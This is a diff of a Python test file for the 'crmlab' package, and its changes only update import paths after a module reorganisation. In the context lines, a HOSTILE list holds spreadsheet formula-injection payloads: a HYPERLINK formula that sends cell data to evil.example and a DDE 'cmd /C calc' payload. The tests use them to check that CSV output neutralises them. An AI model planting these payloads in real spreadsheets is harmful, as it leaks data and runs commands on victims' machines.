@@ -17,8 +17,8 @@ import pandas as pd
 import pytest
 
 import crmlab
-from crmlab.cli import main
-from crmlab.errors import CrmlabInputError
+from crmlab.cli.main import main
+from crmlab.schema import CrmlabInputError
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]
 
@@ -126,7 +126,7 @@ def test_engine_load_of_none():
 # ---------------------------------------------------------------- bounded reading
 
 def test_a_line_over_the_limit_is_refused_naming_the_limit(tmp_path, capsys, monkeypatch):
-    import crmlab.io as io
+    import crmlab.ingest.readers as io
 
     monkeypatch.setattr(io, "MAX_LINE_BYTES", 2**20)  # 1 MB here; 64 MB by default
     p = tmp_path / "orders.csv"
@@ -138,7 +138,7 @@ def test_a_line_over_the_limit_is_refused_naming_the_limit(tmp_path, capsys, mon
 
 
 def test_a_file_without_line_breaks_stops_at_the_limit(tmp_path, capsys, monkeypatch):
-    import crmlab.io as io
+    import crmlab.ingest.readers as io
 
     monkeypatch.setattr(io, "MAX_LINE_BYTES", 2**20)
     p = tmp_path / "orders.csv"
@@ -147,7 +147,7 @@ def test_a_file_without_line_breaks_stops_at_the_limit(tmp_path, capsys, monkeyp
 
 
 def test_too_many_columns_are_refused_naming_the_limit(tmp_path, capsys, monkeypatch):
-    import crmlab.io as io
+    import crmlab.ingest.readers as io
 
     monkeypatch.setattr(io, "MAX_COLUMNS", 10)
     p = tmp_path / "orders.csv"
@@ -448,7 +448,7 @@ def test_clv_values_csv(hostile_store, capsys):
     capsys.readouterr()
     _check_written(out, False)
     _check_written(raw_out, True)
-    from crmlab.spreadsheet import restore_cell
+    from crmlab.present.spreadsheet import restore_cell
 
     a, b = pd.read_csv(out, dtype={0: str}), pd.read_csv(raw_out, dtype={0: str})
     key = a.columns[0]
@@ -462,7 +462,7 @@ def test_clv_values_csv(hostile_store, capsys):
 
 def test_promotion_warm_up_csv(tmp_path, capsys):
     # the warm-up list is old customers: write_csv neutralises it like the others
-    from crmlab.spreadsheet import write_csv
+    from crmlab.present.spreadsheet import write_csv
 
     df = pd.DataFrame({"customer_id": HOSTILE + ["ok"], "sales": [-1.5, 2, 3, 4, 5]})
     write_csv(df, tmp_path / "w.csv", index=False)
@@ -471,7 +471,7 @@ def test_promotion_warm_up_csv(tmp_path, capsys):
 
 
 def test_promotion_warm_up_out_through_the_cli(hostile_store, capsys, monkeypatch):
-    import crmlab.promotion as promotion
+    import crmlab.promotion.plan as promotion
 
     real = promotion.warm_up_list
 
